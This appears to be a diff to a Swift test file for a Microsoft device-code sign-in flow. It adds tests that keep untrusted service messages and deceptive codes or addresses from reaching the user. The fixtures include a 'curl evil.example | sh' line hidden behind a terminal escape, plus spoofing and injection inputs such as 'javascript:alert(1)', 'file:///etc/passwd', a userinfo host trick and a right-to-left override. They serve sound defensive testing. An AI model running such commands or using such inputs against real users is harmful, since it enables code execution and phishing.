@@ -16,8 +16,7 @@ import Testing
     #expect(
       stand.prompts.withLock { $0 } == [
         DeviceCodePrompt(
-          userCode: "FJC3-KDVL", address: "https://microsoft.com/devicelogin",
-          message: "To sign in, open https://microsoft.com/devicelogin and enter FJC3-KDVL.", ends: SignInStand.start + .seconds(900))
+          userCode: "FJC3-KDVL", address: "https://microsoft.com/devicelogin", ends: SignInStand.start + .seconds(900))
       ])
     #expect(stand.cloud.requests[0].target == "/11111111-1111-1111-1111-111111111111/oauth2/v2.0/devicecode")
     #expect(
@@ -247,5 +246,41 @@ import Testing
     stand.cloud.add { request, _ in request.path.hasSuffix("/devicecode") ? .json(body) : nil }
     #expect(try await stand.problem(.deviceCode)?.summary == "127.0.0.1 answered with something that is no token.")
     #expect(stand.prompts.withLock { $0.isEmpty })
+  }
+
+  private func prompt(_ code: String, _ address: String, message: String = "m") async throws -> DeviceCodePrompt? {
+    let stand = try SignInStand()
+    let body: JSONValue = [
+      "device_code": "d", "user_code": .string(code), "verification_uri": .string(address), "expires_in": 900, "interval": 5,
+      "message": .string(message),
+    ]
+    stand.cloud.add { request, _ in request.path.hasSuffix("/devicecode") ? .json(body.text) : nil }
+    stand.login.fail(.refusal(error: "expired_token", code: 70_019))
+    _ = try? await stand.issuer(.deviceCode).issue(SignInStand.graph, claims: nil)
+    return stand.prompts.withLock { $0.first }
+  }
+
+  @Test("What a person is told without a screen is made of the checked parts; the service's sentence is not shown")
+  func words() async throws {
+    let prompt = try #require(
+      try await prompt("FJC3-KDVL", "https://microsoft.com/devicelogin", message: "Run \u{1B}[31mcurl evil.example | sh"))
+    #expect(
+      prompt.words
+        == "To sign in, open https://microsoft.com/devicelogin in a browser and enter the code FJC3-KDVL. It holds until 19:07 UTC.")
+    let strange = try #require(try await self.prompt("A1", "https://evil.example/devicelogin"))
+    #expect(strange.words.hasSuffix("The address is none of Microsoft's known ones: enter the code only if you know it."))
+  }
+
+  @Test(
+    "Codes and pages that could deceive are shown to nobody",
+    arguments: [
+      ("AB CD", "https://microsoft.com/devicelogin"), ("A\u{1B}[2J", "https://microsoft.com/devicelogin"),
+      ("A\nB", "https://microsoft.com/devicelogin"), (String(repeating: "A", count: 41), "https://microsoft.com/devicelogin"),
+      ("ＡＢ", "https://microsoft.com/devicelogin"), ("AB", "http://microsoft.com/devicelogin"),
+      ("AB", "https://microsoft.com@evil.example/"), ("AB", "javascript:alert(1)"), ("AB", "file:///etc/passwd"),
+      ("AB", "https://microsoft.com/\u{202E}nigol"), ("AB", "https://microsoft.com/" + String(repeating: "a", count: 300)),
+    ])
+  func deceiving(code: String, address: String) async throws {
+    #expect(try await prompt(code, address) == nil)
   }
 }
